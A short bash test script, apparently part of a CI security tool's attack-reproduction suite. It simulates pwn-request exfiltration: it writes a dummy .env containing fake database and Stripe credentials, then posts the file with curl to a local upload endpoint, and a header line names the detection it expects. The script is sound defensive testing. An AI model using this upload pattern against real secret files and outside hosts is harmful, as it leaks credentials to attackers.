#!/bin/bash
# technique: T1552.001 Unsecured Credentials: Credentials In Files; T1041 Exfiltration Over C2 Channel
# reproduces: build steps and compromised actions that post the project's .env (database URLs, API keys written there by the CI setup or committed by mistake) with curl, the file-upload form of the pwn-request exfiltration payloads
# expect: credential-file-access ^curl$
# exec-borne: no
#
# The setup writes .env into the checkout as CI setups do from secrets;
# the upload is a separate command naming it relative to the checkout.
set -u

[ -e .env ] && { echo ".env exists in the checkout; not touching it" >&2; exit 1; }
trap 'rm -f .env' EXIT
printf 'DATABASE_URL=postgres://ci:%s@db/app\nSTRIPE_KEY=sk_test_buildwardenAttackTest\n' \
	"buildwardenAttackTest" >.env

curl -s -o /dev/null --connect-timeout 5 -F "cfg=@.env" "http://127.0.0.1:${BW_ATTACK_PORT:?}/upload"
